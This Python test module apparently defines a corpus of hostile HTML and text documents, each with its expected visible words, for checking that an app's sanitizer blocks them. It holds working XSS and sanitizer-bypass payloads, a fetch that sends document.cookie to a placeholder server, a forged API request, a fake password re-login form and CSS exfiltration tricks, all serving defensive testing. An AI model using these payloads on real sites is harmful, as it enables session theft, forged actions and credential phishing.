"""Harmful docs, and the visible words of each.

`CANARY` stands for the address of a server that must get no request, `SITE` for the address of the
app itself. Every doc begins with a paragraph that contains its name, by which it is identified.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class HostileDoc:
    """A doc and its visible words.

    Attributes
    ----------
    name : str
        The attack that the doc tries.
    content : str
        HTML, or text.
    words : str
        The visible words, separated by single blanks.
    form : str
        `html` or `text`.
    """

    name: str
    content: str
    words: str
    form: str = "html"


_JUDGE = """fetch("SITE/api/assignments/1/judgments", {method: "POST", credentials: "include",
headers: {"Content-Type": "application/json"}, body: JSON.stringify({op_id: "forged-00001",
doc: 1, value: 3, sha256: "0".repeat(64), base_revision: 0})});
fetch("CANARY/js?" + document.cookie)"""
_DATA_PAGE = "data:text/html,<script>new Image().src='CANARY/data'</script>"

HOSTILE_DOCS = (
    # --- Scripts
    HostileDoc("script", f"<p>a</p><script>{_JUDGE}</script><p>b</p>", "a b"),
    HostileDoc("script-src", '<p>a</p><script src="CANARY/x.js"></script><p>b</p>', "a b"),
    HostileDoc(
        "script-module", '<script type="module">import "CANARY/m.js"</script><p>plain</p>', "plain"
    ),
    HostileDoc(
        "script-broken",
        "<scr<script>ipt>fetch('CANARY/broken')</scr</script>ipt><p>after</p>",
        "ipt>fetch('CANARY/broken')ipt> after",
    ),
    HostileDoc(
        "importmap",
        '<script type="importmap">{"imports": {"x": "CANARY/map.js"}}</script><p>words</p>',
        "words",
    ),
    HostileDoc("onerror", '<img src="x" onerror="fetch(\'CANARY/onerror\')"><p>text</p>', "text"),
    HostileDoc("onload", "<body onload=\"fetch('CANARY/onload')\"><p>text</p>", "text"),
    HostileDoc(
        "onfocus-autofocus",
        "<input autofocus onfocus=\"fetch('CANARY/focus')\" value='v'><p>text</p>",
        "text",
    ),
    HostileDoc(
        "onclick-everywhere",
        "<div onclick=\"parent.location='CANARY/click'\" onmousedown=\"fetch('CANARY/down')\""
        ' style="height:600px">click me</div>',
        "click me",
    ),
    HostileDoc(
        "ontoggle",
        "<details open ontoggle=\"fetch('CANARY/toggle')\"><summary>s</summary>d</details>",
        "s d",
    ),
    HostileDoc(
        "animation-event",
        "<style>@keyframes k{from{color:red}}</style><p style='animation:k 1s'"
        " onanimationstart=\"fetch('CANARY/animation')\">moving</p>",
        "moving",
    ),
    HostileDoc(
        "javascript-link",
        '<a href="javascript:fetch(\'CANARY/js\')" style="display:block;height:500px">link</a>',
        "link",
    ),
    HostileDoc(
        "javascript-blanks",
        '<a href=" &#1;java&#10;script&colon;fetch(\'CANARY/js\')" style="display:block;'
        'height:500px">link</a>',
        "link",
    ),
    HostileDoc(
        "javascript-form",
        "<form action=\"javascript:fetch('CANARY/js')\"><button style='width:600px;height:500px'>"
        "push</button></form>",
        "push",
    ),
    HostileDoc(
        "javascript-frame",
        "<iframe src=\"javascript:fetch('CANARY/js')\"></iframe><p>below</p>",
        "below",
    ),
    HostileDoc(
        "mutation-xss",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=CANARY/m'
        ' onerror=fetch(1)&gt;"></table></math><p>end</p>',
        "end",
    ),
    HostileDoc(
        "noscript-breakout",
        "<noscript><p title=\"</noscript><img src=CANARY/n onerror=fetch('CANARY/n2')>\">shown"
        "</p></noscript>",
        "shown",
    ),
    # --- SVG and MathML
    HostileDoc(
        "svg-script",
        "<svg width='10' height='10'><script>fetch('CANARY/svg')</script><circle r='4'/></svg>"
        "<p>drawn</p>",
        "drawn",
    ),
    HostileDoc(
        "svg-onload-image",
        "<svg onload=\"fetch('CANARY/svg')\"><image href='CANARY/i.png' width='9' height='9'/>"
        "<use href='CANARY/s.svg#a'/><feImage href='CANARY/f'/></svg><p>drawn</p>",
        "drawn",
    ),
    HostileDoc(
        "svg-foreign-object",
        "<svg width='300' height='60'><foreignObject width='300' height='60'><iframe"
        " src='CANARY/fo'></iframe></foreignObject></svg><p>after</p>",
        "after",
    ),
    HostileDoc(
        "svg-animate-href",
        "<svg><a><animate attributeName='href' values='javascript:fetch(1)'/><text x='9' y='20'>"
        "curve</text></a></svg><p>after</p>",
        "curve after",
    ),
    HostileDoc(
        "svg-data-image",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image"
        " href='CANARY/inner'/><script>fetch('CANARY/inner')</script></svg>\" alt=''><p>seen</p>",
        "seen",
    ),
    # --- Leading away
    HostileDoc(
        "meta-refresh", '<meta http-equiv="refresh" content="0;url=CANARY/r"><p>stay</p>', "stay"
    ),
    HostileDoc(
        "meta-refresh-site",
        '<meta http-equiv="refresh" content="0;url=SITE/organiser/"><p>stay</p>',
        "stay",
    ),
    HostileDoc(
        "base",
        '<base href="CANARY/" target="_top"><a href="away" style="display:block;height:500px">'
        "away</a>",
        "away",
    ),
    HostileDoc(
        "target-top",
        '<a target="_top" href="CANARY/top" style="display:block;height:500px">top</a>',
        "top",
    ),
    HostileDoc(
        "target-blank-ping",
        '<a target="_blank" ping="CANARY/ping" href="CANARY/blank" style="display:block;'
        'height:500px">new</a>',
        "new",
    ),
    HostileDoc(
        "data-link", f'<a href="{_DATA_PAGE}" style="display:block;height:500px">data</a>', "data"
    ),
    HostileDoc(
        "download",
        '<a download href="CANARY/file" style="display:block;height:500px">save</a>',
        "save",
    ),
    HostileDoc(
        "image-map",
        "<img usemap='#m' width='600' height='500' src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAA"
        "P///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' alt=''><map name='m'><area href='CANARY/map'"
        " coords='0,0,600,500'></map><p>map</p>",
        "map",
    ),
    # --- Forms
    HostileDoc(
        "form-away",
        '<form action="CANARY/form" method="post"><input name="p" value="x"><button'
        " style='width:600px;height:400px'>send</button></form>",
        "send",
    ),
    HostileDoc(
        "form-to-the-app",
        '<form action="SITE/logout" method="post"><button style="width:600px;height:400px">'
        "leave</button></form>",
        "leave",
    ),
    HostileDoc(
        "form-formaction",
        '<form id="f"></form><button form="f" formaction="CANARY/fa" formtarget="_top"'
        " style='width:600px;height:400px'>go</button>",
        "go",
    ),
    HostileDoc(
        "password-field",
        "<p>Log in again</p><form action='CANARY/pw'><input type='password' name='p'>"
        "<input type='submit' value='ok' style='width:600px;height:400px'></form>",
        "Log in again",
    ),
    # --- Fetching things
    HostileDoc(
        "images",
        "<img src='CANARY/i.png' alt='a picture'><img srcset='CANARY/2x.png 2x' alt=''><picture>"
        "<source srcset='CANARY/p.webp'><img src='CANARY/p.png' alt=''></picture>"
        "<input type='image' src='CANARY/input.png'><table background='CANARY/t.png'><tr><td"
        " background='CANARY/td.png'>cell</td></tr></table>",
        "cell",
    ),
    HostileDoc(
        "media",
        "<video src='CANARY/v.mp4' poster='CANARY/poster.png' autoplay><track src='CANARY/t.vtt'>"
        "</video><audio src='CANARY/a.mp3' autoplay></audio><p>silence</p>",
        "silence",
    ),
    HostileDoc(
        "link-elements",
        "<link rel='stylesheet' href='CANARY/s.css'><link rel='prefetch' href='CANARY/pf'>"
        "<link rel='preload' as='image' href='CANARY/pl'><link rel='prerender' href='CANARY/pr'>"
        "<link rel='icon' href='CANARY/icon'><link rel='manifest' href='CANARY/mf'>"
        "<link rel='modulepreload' href='CANARY/mp.js'><p>linked</p>",
        "linked",
    ),
    HostileDoc(
        "connections",
        "<link rel='preconnect' href='CANARY'><link rel='dns-prefetch' href='CANARY'>"
        "<meta http-equiv='x-dns-prefetch-control' content='on'><p>alone</p>",
        "alone",
    ),
    HostileDoc(
        "speculation-rules",
        '<script type="speculationrules">{"prefetch":[{"urls":["CANARY/sr","SITE/logout"]}],'
        '"prerender":[{"urls":["SITE/organiser/"]}]}</script><p>guess</p>',
        "guess",
    ),
    HostileDoc(
        "css-urls",
        "<style>@import url(CANARY/import.css); @import 'CANARY/import2.css'; @font-face"
        "{font-family:f;src:url(CANARY/f.woff2)} p{font-family:f;background:url(CANARY/bg);"
        "cursor:url(CANARY/c),auto;list-style-image:url(CANARY/l);mask:url(CANARY/m.svg#x)}"
        " p::before{content:url(CANARY/before)} body{background:image-set('CANARY/set' 1x)}</style>"
        "<p style='border-image:url(CANARY/bi) 30'>styled</p>",
        "styled",
    ),
    HostileDoc(
        "css-exfiltration",
        "<style>input[value^='s']{background:url(CANARY/starts-with-s)} @font-face{font-family:g;"
        "src:url(CANARY/has-s);unicode-range:U+0073} p{font-family:g}</style>"
        "<input value='secret'><p>s</p>",
        "s",
    ),
    HostileDoc(
        "css-in-svg",
        "<svg><style>text{fill:url(CANARY/fill)}</style><text y='20'>leaf</text></svg><p>x</p>",
        "leaf x",
    ),
    HostileDoc(
        "frames",
        "<iframe src='CANARY/frame'></iframe>"
        "<iframe srcdoc=\"<script>fetch('CANARY/sd')</script>\"></iframe>"
        "<iframe src='SITE/organiser/'></iframe><object data='CANARY/o'></object>"
        "<embed src='CANARY/e'><portal src='CANARY/portal'></portal><p>framed</p>",
        "framed",
    ),
    HostileDoc("frameset", "<frameset><frame src='CANARY/fr'></frameset>", ""),
    HostileDoc("applet", "<applet code='x' codebase='CANARY/'></applet><p>old</p>", "old"),
    HostileDoc(
        "cookie-meta", "<meta http-equiv='set-cookie' content='qrelsmith_session=x'><p>c</p>", "c"
    ),
    HostileDoc(
        "csp-meta-report",
        "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'; report-uri"
        ' CANARY/report"><img src="CANARY/x.png" alt=""><p>r</p>',
        "r",
    ),
    HostileDoc(
        "custom-elements-and-templates",
        "<x-a onclick='fetch(1)'>custom</x-a><template><img src='CANARY/t'></template>"
        "<slot>s</slot>"
        "<div><template shadowrootmode='open'><img src='CANARY/shadow'></template></div>",
        "customs",
    ),
    HostileDoc(
        "old-elements",
        "<body background='CANARY/body'><bgsound src='CANARY/bg'><img lowsrc='CANARY/low'"
        " dynsrc='CANARY/dyn' alt=''><layer src='CANARY/layer'></layer><isindex"
        " action='CANARY/index'><marquee onstart=\"fetch('CANARY/m')\">old</marquee>",
        "old",
    ),
    HostileDoc(
        "css-escapes",
        "<p style='background:\\75 rl(CANARY/escaped);behavior:url(CANARY/b);-moz-binding:"
        "url(CANARY/moz)'>one</p><style>p{background:u\\72l('CANARY/e2')}/*</style><p>*/two</p>",
        "one */two",
    ),
    HostileDoc(
        "style-breakout",
        "<style><!--</style><img src=CANARY/s onerror=fetch(1)>--></style><p>end</p>",
        "--> end",
    ),
    HostileDoc(
        "svg-set-href",
        "<svg><a><set attributeName='href' to='javascript:fetch(1)'/><text y='20'>set</text></a>"
        "<style><![CDATA[</style><img src=CANARY/cdata onerror=fetch(1)>]]></svg><p>after</p>",
        "set after",
    ),
    HostileDoc(
        "keys-of-the-page",
        "<button accesskey='1' onclick='fetch(1)'>one</button><a accesskey='u' href='#x'>u</a>"
        "<div tabindex='1' autofocus contenteditable>here</div>",
        "oneu here",
    ),
    HostileDoc(
        "popover-and-dialog",
        "<button popovertarget='p' commandfor='d' command='show-modal'>show</button>"
        "<div id='p' popover>popped</div><dialog id='d'>modal</dialog><p>below</p>",
        "show popped below",
    ),
    HostileDoc(
        "new-frames",
        "<fencedframe src='CANARY/fenced'></fencedframe><script type='webbundle'>{\"source\":"
        '"CANARY/bundle","resources":["CANARY/r"]}</script><link rel=\'expect\' href=\'#x\''
        " blocking='render'><p>shown</p>",
        "shown",
    ),
    # --- The page around it
    HostileDoc(
        "overlay",
        "<style>div{position:fixed;inset:0;z-index:2147483647;background:#fff}</style>"
        "<div>Your session is over</div>",
        "Your session is over",
    ),
    HostileDoc(
        "ids-of-the-page",
        "<p id='main'>m</p><p id='qrelsmith-f1'>f</p><form name='body'></form><img name='cookie'"
        " alt=''><p id='state'>s</p>",
        "m f s",
    ),
    HostileDoc(
        "breakout",
        "</body></html></iframe></section></main><script>fetch('CANARY/out')</script><p>out</p>",
        "out",
    ),
    HostileDoc("comment", "<p>a</p><!--><img src=CANARY/c onerror=fetch(1)>--><p>b</p>", "a --> b"),
    # --- Size and shape
    HostileDoc("deep", "<div>" * 500 + "<p>bottom</p>" + "</div>" * 500, "bottom"),
    HostileDoc("huge", "<p>" + "grain " * 150_000 + "</p>", "grain " * 149_999 + "grain"),
    HostileDoc("long-word", "<p>" + "x" * 50_000 + "</p>", "x" * 50_000),
    HostileDoc("tall-and-wide", "<p style='width:99999px;height:99999px'>vast</p>", "vast"),
    HostileDoc("many-attributes", "<p " + " ".join(f"a{n}=1" for n in range(5000)) + ">p</p>", "p"),
    # --- Letters
    HostileDoc(
        "null-bytes",
        "<p>nu\x00ll</p><scr\x00ipt>fetch('CANARY/nul')</scr\x00ipt>",
        "null fetch('CANARY/nul')",
    ),
    HostileDoc(
        "utf-7",
        "<meta charset='utf-7'><p>+ADw-script+AD4-fetch(1)+ADw-/script+AD4-</p>",
        "+ADw-script+AD4-fetch(1)+ADw-/script+AD4-",
    ),
    HostileDoc(
        "iso-2022-jp",
        "<meta charset='iso-2022-jp'><p>\x1b$B<script>fetch('CANARY/esc')</script>\x1b(B plain</p>",
        "\x1b$B\x1b(B plain",
    ),
    HostileDoc(
        "broken-encoding",
        "<p>Gr\ufffd\ufffde, caf\u00c3\u00a9</p>",
        "Gr\ufffd\ufffde, caf\u00c3\u00a9",
    ),
    HostileDoc(
        "right-to-left",
        "<p dir='rtl'>שלום עולם</p><p>user\u202egnp.exe\u202c مرحبا \u2066x\u2069</p>",
        "שלום עולם user\u202egnp.exe\u202c مرحبا \u2066x\u2069",
    ),
    HostileDoc("odd-blanks", "<p>a\u00a0b\u2028c\u2029d\u200be\u3000f</p>", "a b c d\u200be f"),
    HostileDoc("many-marks", "<p>" + "Z" + "\u0301" * 2000 + "</p>", "Z" + "\u0301" * 2000),
    HostileDoc(
        "entities",
        "<p>&lt;script&gt;fetch('CANARY/e')&lt;/script&gt; &amp;lt; &#x3c;b&gt;</p>",
        "<script>fetch('CANARY/e')</script> &lt; <b>",
    ),
    # --- Text that is no HTML
    HostileDoc(
        "text-with-tags",
        "<script>fetch('CANARY/t')</script><img src=CANARY/t onerror=fetch(1)> & done",
        "<script>fetch('CANARY/t')</script><img src=CANARY/t onerror=fetch(1)> & done",
        form="text",
    ),
    HostileDoc("text-with-nul", "a\x00b\x1b[31m\x07 c", "a\x00b\x1b[31m\x07 c", form="text"),
)
